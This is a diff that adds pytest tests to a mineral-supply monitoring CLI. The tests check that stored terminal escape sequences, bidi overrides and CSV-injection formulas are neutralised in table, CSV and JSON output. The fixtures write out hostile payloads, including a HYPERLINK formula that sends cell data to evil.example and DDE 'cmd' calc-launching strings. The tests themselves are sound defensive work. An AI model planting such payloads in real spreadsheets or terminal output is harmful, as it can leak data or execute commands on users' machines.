@@ -220,3 +220,101 @@ def test_rules_show_rejects_an_unknown_mineral() -> None:
     result = CliRunner().invoke(cli, ["rules", "show", "--mineral", "unobtainium"])
     assert result.exit_code == 2
     assert "unknown mineral(s): unobtainium" in result.stderr
+
+
+# --------------------------------------------------------------------------- hostile stored text
+
+#: What a feed or a server once managed to store: an OSC title change ended by BEL, a CSI
+#: (7-bit and C1), an OSC as C1, a right-to-left override.
+HOSTILE_ERROR = "HTTP 503 \x1b]0;owned\x07Service \x1b[2JUnavailable"
+HOSTILE_TITLE = "China \x9b31mbans\x9d0;x\x07 gallium \u202eexports"
+TERMINAL_HAZARDS = ("\x1b", "\x07", "\x9b", "\x9d", "\u202e")
+#: Cells a spreadsheet would run as a formula (OWASP CSV injection), each a news title.
+FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+
+
+def _now_iso() -> str:
+    from datetime import UTC, datetime
+
+    return datetime.now(UTC).isoformat()
+
+
+def _insert_news(store: Store, item_id: str, title: str) -> None:
+    """Straight into the table, as an old version of critmon (no cleaning at ingest) did."""
+    at = _now_iso()
+    store.db["news_items"].insert({
+        "id": item_id, "source": "gnews", "url": f"https://example.org/{item_id}\x9b",
+        "title": title, "published_at": at, "fetched_at": at, "kind": "export_ban",
+        "is_supply_risk_event": 1, "confidence": 0.9, "risk_confidence": 0.9,
+        "country": "China\u202e"})
+    store.db["news_tags"].insert({"item_id": item_id, "mineral": "gallium", "direct": 1})
+
+
+@pytest.fixture
+def hostile_state(tmp_path: Path) -> Path:
+    """A state database holding control characters and formulas in every kind of text."""
+    state = tmp_path / "state"
+    state.mkdir(mode=0o700)
+    with Store.open(state / DB_NAME) as store:
+        store.db["source_state"].insert({
+            "source": "fred_nickel", "kind": "fred_csv", "status": "failing\x1b[5m",
+            "last_error": HOSTILE_ERROR, "consecutive_failures": 3})
+        _insert_news(store, "x:hostile", HOSTILE_TITLE)
+        for n, formula in enumerate(FORMULAS):
+            _insert_news(store, f"x:formula{n}", formula)
+        store.db["alert_events"].insert({
+            "at": _now_iso(), "fingerprint": "f00dfeed" * 4, "alertname": "@SUM(1)",
+            "mineral": "gallium", "kind": "fired", "from_state": "pending",
+            "to_state": "firing", "level": "high", "value": -0.5,
+            "detail": '=HYPERLINK("http://evil.example","x") ' + HOSTILE_TITLE})
+    return state
+
+
+@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
+@pytest.mark.parametrize("command", [["sources", "list"], ["news"], ["history"]])
+def test_stored_control_and_bidi_characters_never_reach_the_terminal(
+        hostile_state: Path, command: list[str], fmt: str) -> None:
+    code, out, err = invoke("--config", str(default_config_dir()), "--state-dir",
+                            str(hostile_state), *command, "--format", fmt)
+    assert code == 0, err
+    assert [h for h in TERMINAL_HAZARDS if h in out + err] == []
+    if fmt == "json":
+        json.loads(out)  # still valid JSON
+    visible = "Unavailable" if command == ["sources", "list"] else "gallium"
+    assert visible in out
+
+
+def test_sources_list_shows_the_stored_error_without_its_escape_sequences(
+        hostile_state: Path) -> None:
+    code, out, _ = invoke("--config", str(default_config_dir()), "--state-dir",
+                          str(hostile_state), "sources", "list", "--format", "json")
+    assert code == 0
+    row = next(r for r in json.loads(out) if r["source"] == "fred_nickel")
+    assert row["last_error"] == "HTTP 503 ]0;ownedService [2JUnavailable"
+
+
+def _csv_rows(out: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(out)))
+
+
+def test_news_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(
+        hostile_state: Path) -> None:
+    code, out, _ = invoke("--state-dir", str(hostile_state), "news", "--format", "csv")
+    assert code == 0
+    titles = {row["title"] for row in _csv_rows(out)}
+    assert {"'" + f.replace("\r", "") if f.startswith("\r") else "'" + f
+            for f in FORMULAS} <= titles
+    assert not [t for t in titles if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_history_csv_neutralises_formulas_but_keeps_numbers_numbers(hostile_state: Path
+                                                                    ) -> None:
+    code, out, _ = invoke("--state-dir", str(hostile_state), "history", "--format", "csv")
+    assert code == 0
+    (row,) = _csv_rows(out)
+    assert row["alertname"] == "'@SUM(1)"
+    assert row["detail"].startswith("'=HYPERLINK(")
+    assert row["value"] == "-0.5"  # a negative number is a number, not a formula
+    code, out, _ = invoke("--state-dir", str(hostile_state), "history", "--format", "json")
+    assert json.loads(out)[0]["value"] == -0.5 and json.loads(out)[0]["alertname"] == "@SUM(1)"
